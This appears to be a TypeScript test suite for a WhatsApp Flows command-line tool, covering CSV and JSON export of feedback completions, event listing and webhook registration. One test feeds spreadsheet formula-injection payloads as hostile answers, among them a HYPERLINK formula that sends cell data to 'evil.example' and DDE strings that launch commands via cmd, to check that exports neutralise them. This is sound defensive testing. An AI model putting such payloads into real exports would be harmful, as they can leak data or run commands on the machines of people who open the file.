import { createFeedbackFlow } from '../../flows/feedback';
import { openSession } from '../../src/playground/open-session';
import type { Store } from '../../src/store/store';
import { createWebhookRecords, type CompletionRecord } from '../../src/webhooks/webhook-records';
import { createSqliteStore } from '../../src/store/sqlite-store';
import { CliHarness } from '../helpers/fake-whatsapp-api/cli-harness';
import { FORMULA_START, readCsv } from '../helpers/read-csv';
import { createTestApp, issueToken, TOKEN_SECRET } from '../helpers/test-app';
import { cloudMessages, deliver, flowsChange, nfmReply } from '../helpers/webhook-deliveries';

const WEBHOOK_URL = 'https://flows.example.com/webhooks/whatsapp';
const SECRET = 'a-webhook-secret-for-360dialog';
const VERIFY = 'a-verify-token-for-meta';

/** The server side of a run: the real app on the harness's SQLite file, as `npm start` would be. */
function serverOn(harness: CliHarness) {
  const store = createSqliteStore(harness.storeUrl.slice('sqlite:'.length));
  const { app } = createTestApp({
    store,
    flows: (shared) => [createFeedbackFlow({ store: shared })],
    webhooks: { flowNameOf: (id) => (id === '777' ? 'feedback' : undefined) },
  });
  return { app, store };
}

const feedbackToken = () => issueToken('feedback');

/** A feedback completion as an earlier version recorded it, written straight to the store. */
const recordOlderRow = (
  store: Store,
  id: string,
  fields: Pick<CompletionRecord, 'params' | 'from' | 'subject'>,
) =>
  createWebhookRecords(store).record({
    kind: 'completion',
    record: {
      id,
      flow: 'feedback',
      matchedBy: 'flow_token',
      receivedAt: new Date().toISOString(),
      ...fields,
    },
  });

/** The webhook's own variables, which the harness does not know: each test starts without them. */
const OWN = ['WEBHOOK_SECRET', 'WEBHOOK_VERIFY_TOKEN', 'WEBHOOK_MAX_BODY'];
const saved = Object.fromEntries(OWN.map((name) => [name, process.env[name]]));
beforeEach(() => {
  for (const name of OWN) delete process.env[name];
});
afterAll(() => {
  for (const [name, value] of Object.entries(saved))
    if (value !== undefined) process.env[name] = value;
});

describe('flows completions and flows events', () => {
  let harness: CliHarness;
  beforeEach(async () => {
    harness = await CliHarness.start('360dialog');
  });
  afterEach(() => harness.stop());

  it("when the feedback flow's completion was delivered (five times), then it is exported once as CSV with its ratings", async () => {
    const { app, store } = serverOn(harness);
    const reply = nfmReply({
      response: {
        flow_token: feedbackToken(),
        purchase_rating: '5',
        delivery_rating: '3',
        service_rating: '4',
        recommend: '0_yes',
        comment: 'Fast, "friendly", thanks',
      },
    });
    for (let i = 0; i < 5; i++)
      expect((await deliver(app, cloudMessages([reply]))).status).toBe(200);
    await deliver(app, cloudMessages([nfmReply({ response: { other: 'x' } })]));
    await store.close();

    const run = await harness.run(['completions', '--flow', 'feedback', '--format', 'csv']);
    expect(run.code).toBe(0);
    const lines = run.out.split('\n');
    expect(lines[0]).toBe(
      'message_id,flow,received_at,matched_by,reason,subject,from,purchase_rating,delivery_rating,service_rating,recommend,comment',
    );
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`${reply.id},feedback,`);
    expect(lines[1]).toMatch(
      /,flow_token,,,\+4915112345678,5,3,4,0_yes,"Fast, ""friendly"", thanks"$/,
    );
  });

  it('when answers start like spreadsheet formulas, then each CSV cell opens as text', async () => {
    const { app, store } = serverOn(harness);
    const hostile = {
      equals: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      plus: "+1+cmd|' /C calc'!A0",
      minus: '-2+3',
      at: "@SUM(1+1)*cmd|' /C calc'!A0",
      tab: '\t=1+1',
      return: '\r=1+1',
    };
    const reply = nfmReply({ response: { flow_token: feedbackToken(), ...hostile } });
    expect((await deliver(app, cloudMessages([reply]))).status).toBe(200);
    await store.close();

    const run = await harness.run(['completions', '--format', 'csv']);
    expect(run.code).toBe(0);
    const [header = [], row = []] = readCsv(run.out.trimEnd());
    const cells = Object.fromEntries(header.map((name, i) => [name, row[i] ?? '']));
    for (const [name, value] of Object.entries(hostile)) {
      expect({ name, cell: cells[name] }).toEqual({ name, cell: `'${value}` });
    }
    expect(row.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(cells.from).toBe('+4915112345678');
  });

  it('when a customer is known with and without "+" (the token subject, the sender, an older row), then every export writes +E.164', async () => {
    const { app, store } = serverOn(harness);
    const token = issueToken('feedback', '4915112345678');
    await deliver(
      app,
      cloudMessages([nfmReply({ response: { flow_token: token, comment: 'a' } })]),
    );
    await recordOlderRow(store, 'wamid.older-row', {
      from: '4915112345678',
      subject: '4915112345678',
      params: { comment: 'b' },
    });
    await store.close();

    const json = JSON.parse((await harness.run(['completions', '--format', 'json'])).out) as {
      from: string;
      subject: string;
    }[];
    expect(json.map(({ from, subject }) => [from, subject])).toEqual([
      ['+4915112345678', '+4915112345678'],
      ['+4915112345678', '+4915112345678'],
    ]);
    const csv = (await harness.run(['completions'])).out.split('\n').slice(1);
    for (const line of csv) expect(line).toContain(',+4915112345678,+4915112345678,');
  });

  it('when a completion was made in the playground, then it is marked and left out of the export unless --include-playground', async () => {
    const { app, store } = serverOn(harness);
    const session = await openSession('feedback', {
      store,
      tokenSecret: TOKEN_SECRET,
      now: new Date(),
    });
    const played = nfmReply({
      contextId: session.messageId,
      response: { flow_token: session.flowToken, comment: 'tried it' },
    });
    const real = nfmReply({ response: { flow_token: feedbackToken(), comment: 'real' } });
    await deliver(app, cloudMessages([played, real]));
    // Recorded before completions carried the marker: known by the playground's reply id.
    await recordOlderRow(store, 'wamid.playground-reply-0123456789abcdef', {
      params: { comment: 'older try' },
    });
    await store.close();

    const exported = await harness.run(['completions', '--format', 'json']);
    expect(JSON.parse(exported.out)).toMatchObject([{ id: real.id }]);
    const csv = await harness.run(['completions']);
    expect(csv.out.split('\n')).toHaveLength(2);
    expect(csv.out).not.toContain('tried it');

    const all = await harness.run(['completions', '--format', 'json', '--include-playground']);
    const records = JSON.parse(all.out) as { id: string; playground?: boolean }[];
    expect(records).toHaveLength(3);
    expect(records.find((record) => record.id === played.id)?.playground).toBe(true);
    expect(records.find((record) => record.id === real.id)?.playground).toBeUndefined();
    expect(
      records.find((record) => record.id === 'wamid.playground-reply-0123456789abcdef')?.playground,
    ).toBe(true);
    const allCsv = await harness.run(['completions', '--include-playground']);
    expect(allCsv.out.split('\n')[0]).toContain(',playground');
    expect(allCsv.out.split('\n')).toHaveLength(4);
  });

  it('when asked for JSON, unmatched ones or a later date, then it filters', async () => {
    const { app, store } = serverOn(harness);
    await deliver(
      app,
      cloudMessages([
        nfmReply({
          response: {
            flow_token: feedbackToken(),
            purchase_rating: '1',
            delivery_rating: '1',
            service_rating: '1',
            recommend: '1_no',
            comment: '',
          },
        }),
      ]),
    );
    await deliver(app, cloudMessages([nfmReply({ response: { a: 1 } })]));
    await store.close();

    const all = await harness.run(['completions', '--format', 'json']);
    expect(JSON.parse(all.out)).toHaveLength(2);
    const unmatched = await harness.run(['completions', '--flow', 'unmatched', '--format', 'json']);
    expect(JSON.parse(unmatched.out)).toMatchObject([{ matchedBy: 'none', params: { a: 1 } }]);
    const later = await harness.run(['completions', '--since', '2999-01-01', '--format', 'json']);
    expect(JSON.parse(later.out)).toEqual([]);
  });

  it('when a flag is wrong, then exit 2 with one line naming it', async () => {
    const format = await harness.run(['completions', '--format', 'xml']);
    expect(format.code).toBe(2);
    expect(format.err).toMatch(/^--format: /);
    const since = await harness.run(['events', '--since', 'yesterday-ish']);
    expect(since.code).toBe(2);
    expect(since.err).toMatch(/^--since: must be a date/);
  });

  it('when Flow events were delivered, then flows events lists them, one line each', async () => {
    const { app, store } = serverOn(harness);
    await deliver(
      app,
      flowsChange(
        {
          event: 'ENDPOINT_LATENCY',
          flow_id: '777',
          p90_latency: 8000,
          p50_latency: 500,
          threshold: 7000,
          alert_state: 'ACTIVATED',
        },
        1,
      ),
    );
    await deliver(
      app,
      flowsChange(
        {
          event: 'FLOW_STATUS_CHANGE',
          flow_id: '888',
          old_status: 'DRAFT',
          new_status: 'PUBLISHED',
        },
        2,
      ),
    );
    await store.close();

    const run = await harness.run(['events']);
    expect(run.code).toBe(0);
    expect(run.out).toMatch(
      /feedback {2}ENDPOINT_LATENCY {2}ACTIVATED {2}p90 8000 ms {2}p50 500 ms {2}threshold 7000/,
    );
    expect(run.out).toMatch(/flow 888 {2}FLOW_STATUS_CHANGE {2}DRAFT -> PUBLISHED/);
    const one = await harness.run(['events', '--flow', 'feedback', '--format', 'json']);
    expect(JSON.parse(one.out)).toHaveLength(1);
  });
});

describe('flows webhook register', () => {
  let harness: CliHarness;
  afterEach(() => harness.stop());

  async function start(provider: '360dialog' | 'cloud') {
    harness = await CliHarness.start(provider);
  }
  const registrations = () =>
    harness.fake.requestsTo('POST', /\/v1\/configs\/webhook$|\/subscribed_apps$/);

  it('when on 360dialog, then the webhook URL is set with the X-Webhook-Secret header', async () => {
    await start('360dialog');
    harness.setEnv({ WEBHOOK_SECRET: SECRET });
    const run = await harness.run(['webhook', 'register', '--url', WEBHOOK_URL]);
    expect(run.code).toBe(0);
    expect(harness.fake.webhook).toEqual({
      url: WEBHOOK_URL,
      headers: { 'X-Webhook-Secret': SECRET },
    });
    expect(run.out).toContain(`done: 360dialog delivers this number's webhooks to ${WEBHOOK_URL}`);
  });

  it('when on 360dialog without WEBHOOK_SECRET, then exit 2 naming it and nothing is sent', async () => {
    await start('360dialog');
    const run = await harness.run(['webhook', 'register', '--url', WEBHOOK_URL]);
    expect(run.code).toBe(2);
    expect(run.err).toMatch(/WEBHOOK_SECRET must be set/);
    expect(registrations()).toHaveLength(0);
  });

  it('when 360dialog refuses the API key, then exit 1 with its message', async () => {
    await start('360dialog');
    harness.setEnv({ WEBHOOK_SECRET: SECRET, D360_API_KEY: 'wrong-key' });
    const run = await harness.run(['webhook', 'register', '--url', WEBHOOK_URL]);
    expect(run.code).toBe(1);
    expect(run.err).toMatch(/refused .*HTTP 401.*Invalid api key/);
  });

  it.each([
    ['http://flows.example.com/webhooks/whatsapp', /https/],
    ['https://flows.example.com:8443/webhooks/whatsapp', /port/],
    ['https://my_flows.example.com/webhooks/whatsapp', /"_"/],
    ['not a url', /https/],
  ])('when --url is %s, then exit 2', async (url, message) => {
    await start('360dialog');
    const run = await harness.run(['webhook', 'register', '--url', url]);
    expect(run.code).toBe(2);
    expect(run.err).toMatch(message);
  });

  it('when on the Cloud API, then the app is subscribed to the WABA and the dashboard values are printed', async () => {
    await start('cloud');
    harness.setEnv({ WEBHOOK_VERIFY_TOKEN: VERIFY });
    const run = await harness.run(['webhook', 'register', '--url', WEBHOOK_URL]);
    expect(run.code).toBe(0);
    expect(harness.fake.subscribedApps).toBe(1);
    expect(run.out).toContain(`Callback URL:  ${WEBHOOK_URL}`);
    expect(run.out).toContain(`Verify token:  ${VERIFY}`);
    expect(run.out).toContain('"messages" and "flows"');
  });

  it('when Meta refuses the token, then exit 1 with its message', async () => {
    await start('cloud');
    harness.setEnv({ WEBHOOK_VERIFY_TOKEN: VERIFY, WHATSAPP_ACCESS_TOKEN: 'expired' });
    const run = await harness.run(['webhook', 'register', '--url', WEBHOOK_URL]);
    expect(run.code).toBe(1);
    expect(run.err).toMatch(/Invalid OAuth access token/);
  });

  it('when on the Cloud API without WEBHOOK_VERIFY_TOKEN, then exit 2 before calling Meta', async () => {
    await start('cloud');
    const run = await harness.run(['webhook', 'register', '--url', WEBHOOK_URL]);
    expect(run.code).toBe(2);
    expect(run.err).toMatch(/WEBHOOK_VERIFY_TOKEN must be set/);
    expect(registrations()).toHaveLength(0);
  });

  it('then --help shows an example', async () => {
    await start('360dialog');
    const run = await harness.run(['webhook', 'register', '--help']);
    expect(run.code).toBe(0);
    expect(run.out).toContain('Example');
  });
});
